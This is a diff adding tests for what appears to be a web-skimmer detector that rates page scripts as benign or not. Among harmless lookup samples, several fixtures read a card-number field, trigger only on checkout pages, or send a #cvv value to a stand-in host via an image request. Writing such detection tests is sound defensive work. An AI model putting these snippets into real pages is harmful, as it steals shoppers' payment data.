@@ -56,3 +56,43 @@ describe('a shop’s own checkout', () => {
     expect(verdict(checkout.replace('api.tea-shop', 'pay.unheard-of'), { approvedHosts: ['pay.unheard-of.example'] })).toBe('benign')
   })
 })
+
+describe('a lookup of a single field', () => {
+  const ask = (field: string, address: string) =>
+    `const field = document.querySelector('${field}'); field.addEventListener('change', async () => { const r = await fetch('${address}' + encodeURIComponent(field.value)); show(await r.json()) })`
+  it.each([
+    ['#billing_postcode', 'https://codes.mail-areas.example/v1/'],
+    ['#address_line1', 'https://find.street-names.example/?q='],
+    ['[name="vat_number"]', 'https://tax.number-check.example/?id='],
+    ['#gift-card-code', 'https://balance.present-cards.example/'],
+    ['input[name="q"]', 'https://find.shop-items.example/?q='],
+  ])('is benign: %s', (field, address) => expect(verdict(ask(field, address))).toBe('benign'))
+
+  it('is at most suspicious if only the field is unknown', () => {
+    expect(verdict(ask('#part-number', 'https://stock.part-list.example/'))).toBe('suspicious')
+  })
+
+  it.each([
+    ['the field is the card number', ask('#card_number', 'https://codes.mail-areas.example/')],
+    [
+      'the code is only active in the checkout',
+      `if (/checkout/.test(location.href)) { ${ask('#postcode', 'https://a.mail-areas.example/')} }`,
+    ],
+    [
+      'the code also takes other fields',
+      `${ask('#postcode', 'https://a.mail-areas.example/')}; new Image().src = 'https://b.mail-areas.example/?' + document.querySelector('#cvv').value`,
+    ],
+  ])('is not benign if %s', (_, code) => expect(verdict(code)).not.toBe('benign'))
+})
+
+it('is benign to send a review form to a service, and to send stored values that nobody typed', () => {
+  const form = `document.querySelector('#review-form').addEventListener('submit', function (e) { e.preventDefault(); fetch('https://api.star-words.example/', { method: 'POST', body: new FormData(this) }) })`
+  expect(verdict(form)).toBe('benign')
+  const visitor = `localStorage.setItem('visitor', Math.random()); navigator.sendBeacon('https://count.page-views.example/', localStorage.getItem('visitor')); document.querySelector('#note').oninput = (e) => localStorage.setItem('note', e.target.value)`
+  expect(verdict(visitor)).toBe('benign')
+})
+
+it('is benign to decode and escape texts without a page, whatever the words', () => {
+  const code = `const hex = '0123456789abcdef'; export function escape(text) { let out = ''; for (let at = 0; at < text.length; at++) { const code = text.charCodeAt(at); out += code < 128 ? text[at] : '%' + hex[code >> 4] + hex[code & 15] } return encodeURIComponent(out) } export const read = (bytes) => { let s = ''; for (const b of bytes) s += String.fromCharCode(b ^ 85); return decodeURIComponent(unescape(s)) }`
+  expect(verdict(code)).toBe('benign')
+})
